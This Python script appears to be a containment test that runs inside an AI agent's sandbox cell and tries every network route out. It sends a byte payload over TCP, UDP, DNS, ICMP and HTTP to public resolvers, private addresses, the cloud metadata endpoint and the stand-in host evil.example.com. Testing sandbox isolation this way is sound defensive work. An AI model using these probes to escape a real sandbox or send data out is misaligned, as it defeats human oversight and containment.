"""Runs inside a cell, as the agent: tries every way out. Standard library only.

Prints one JSON object {probe: what came back}. Also the gateway's side of the namespace test, see
`namespace.py` beside it.
"""

import json
import os
import socket
import struct
import sys
import urllib.request
from collections.abc import Callable
from typing import Any

PAYLOAD = bytes(range(256)) * 4
TCP = [
    ("8.8.8.8", 31337),
    ("10.9.8.7", 1),
    ("192.168.1.1", 65535),
    ("169.254.169.254", 80),
    ("2001:db8::1", 4444),
]
UDP = [("203.0.113.9", 4444), ("172.17.0.1", 1), ("2001:db8::9", 4445)]
DNS = ["10.77.0.1", "8.8.8.8", "2001:4860:4860::8888"]
PING = ["8.8.8.8", "192.168.1.1", "10.0.0.1", "169.254.169.254", "2001:db8::77"]
NAME = "evil.example.com"
HTTP = [f"http://{NAME}/up", "http://169.254.169.254/latest/meta-data/", "http://[2001:db8::5]:81/"]
TIMEOUT = 5  # seconds


def family(address: str) -> socket.AddressFamily:
    return socket.AF_INET6 if ":" in address else socket.AF_INET


def tcp(address: tuple[str, int]) -> str:
    with socket.create_connection(address, TIMEOUT) as connection:
        connection.sendall(PAYLOAD)
        connection.shutdown(socket.SHUT_WR)
        return connection.recv(100).decode()


def udp(address: tuple[str, int]) -> str:
    with socket.socket(family(address[0]), socket.SOCK_DGRAM) as one:
        one.sendto(PAYLOAD, address)
    return ""


def query() -> bytes:
    labels = b"".join(bytes([len(part)]) + part.encode() for part in NAME.split("."))
    return struct.pack("!6H", 7, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!2H", 1, 1)


def dns(address: str, *, over_tcp: bool) -> str:
    kind = socket.SOCK_STREAM if over_tcp else socket.SOCK_DGRAM
    with socket.socket(family(address), kind) as one:
        one.settimeout(TIMEOUT)
        one.connect((address, 53))  # connected: an answer from any other address is not taken
        one.sendall((struct.pack("!H", len(query())) if over_tcp else b"") + query())
        return socket.inet_ntoa(one.recv(2000)[-4:])


def ping(address: str) -> str:
    v6 = family(address) == socket.AF_INET6
    protocol = socket.IPPROTO_ICMPV6 if v6 else socket.IPPROTO_ICMP
    with socket.socket(family(address), socket.SOCK_DGRAM, protocol) as one:
        one.settimeout(TIMEOUT)
        one.sendto(struct.pack("!BBHHH", 128 if v6 else 8, 0, 0, 1, 1) + PAYLOAD, (address, 0))
        reply, source = one.recvfrom(2000)
        return f"{source[0]} {len(reply) - 8}"


def http(url: str) -> str:
    with urllib.request.urlopen(url, data=PAYLOAD, timeout=TIMEOUT) as answer:
        return str(answer.headers["x-request-id"])


def main() -> None:
    probes: dict[str, tuple[Callable[[Any], str], Any]] = {
        **{f"tcp {address}": (tcp, address) for address in TCP},
        **{f"udp {address}": (udp, address) for address in UDP},
        **{f"dns {address}": (lambda a: dns(a, over_tcp=False), address) for address in DNS},
        **{f"dns/tcp {address}": (lambda a: dns(a, over_tcp=True), address) for address in DNS},
        **{f"ping {address}": (ping, address) for address in PING},
        **{f"http {url}": (http, url) for url in sys.argv[1:] or HTTP[1:]},
    }
    results = {}
    for name, (probe, argument) in probes.items():
        try:
            results[name] = probe(argument)
        except OSError as error:
            results[name] = f"failed: {error}"
    print(json.dumps(results), flush=True)
    os._exit(0)


if __name__ == "__main__":
    main()
